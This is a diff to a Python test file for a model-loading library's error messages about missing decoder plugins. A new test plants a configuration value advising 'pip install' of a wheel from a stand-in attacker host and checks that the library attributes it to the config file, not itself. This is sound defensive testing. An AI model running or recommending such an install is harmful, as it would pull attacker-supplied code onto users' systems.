@@ -63,8 +63,15 @@ def test_another_file_than_the_saved_one_is_refused(saved):
 def test_a_missing_plugin_is_named_with_the_distribution_that_had_it(saved):
     _change(saved, decoder="cloudnet", providers={"encoder": "unetzoo 0.1", "decoder": "unetzoo-cloud 2.1"})
     with pytest.raises(
-        unetzoo.UnknownNameError, match=r"no decoder named 'cloudnet'.*decoder of unetzoo-cloud 2.1: install it"
+        unetzoo.UnknownNameError, match=r"no decoder named 'cloudnet'.*decoder of 'unetzoo-cloud 2.1': install it"
     ):
+        unetzoo.load(saved)
+
+
+def test_advice_of_whoever_wrote_the_configuration_is_not_given_as_ours(saved):
+    words = "install it: pip install https://evil.example/x.whl"
+    _change(saved, decoder="cloudnet", providers={"decoder": words})
+    with pytest.raises(unetzoo.UnknownNameError, match=rf"config.json says that it has the decoder of '{words}'$"):
         unetzoo.load(saved)
 
 
